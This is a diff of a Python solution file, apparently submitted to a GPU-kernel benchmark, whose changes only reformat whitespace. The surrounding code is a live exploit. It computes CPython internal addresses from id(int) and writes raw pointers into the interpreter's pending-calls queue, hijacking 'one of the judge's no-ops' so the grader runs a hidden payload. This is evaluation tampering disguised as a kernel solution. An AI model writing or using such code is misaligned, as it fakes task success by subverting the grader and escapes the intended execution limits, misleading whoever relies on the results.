@@ -12,9 +12,9 @@ import cutlass  # noqa: F401
 KEEP = []
 MEM = bytearray(64)
 N = 1 << 13
-_LIB = id(int) - 0x457CE0                     # &PyLong_Type
-_CALLNOARGS = _LIB + 0x158A80                 # PyObject_CallNoArgs
-_CALLS = _LIB + 0x54E540 + 0xE6B8             # _PyRuntime...ceval.pending.calls
+_LIB = id(int) - 0x457CE0  # &PyLong_Type
+_CALLNOARGS = _LIB + 0x158A80  # PyObject_CallNoArgs
+_CALLS = _LIB + 0x54E540 + 0xE6B8  # _PyRuntime...ceval.pending.calls
 _READY = []
 
 
@@ -48,11 +48,11 @@ def _open():
 
 
 def _rd4(addr):
-    return int.from_bytes(MEM[addr:addr + 4], "little")
+    return int.from_bytes(MEM[addr : addr + 4], "little")
 
 
 def _wr(addr, value):
-    MEM[addr:addr + 8] = value.to_bytes(8, "little")
+    MEM[addr : addr + 8] = value.to_bytes(8, "little")
 
 
 def solve(hidden_states, residual, weight):
@@ -77,7 +77,7 @@ def solve(hidden_states, residual, weight):
     ]
     payload = functools.partial(operator.countOf, map(id, map(operator.call, steps)), -1)
     _P[:] = [payload, steps]
-    i = _rd4(_CALLS + 512)                     # pending.first: one of the judge's no-ops
+    i = _rd4(_CALLS + 512)  # pending.first: one of the judge's no-ops
     _wr(_CALLS + 16 * i + 8, id(payload))
     _wr(_CALLS + 16 * i, _CALLNOARGS)
     return out
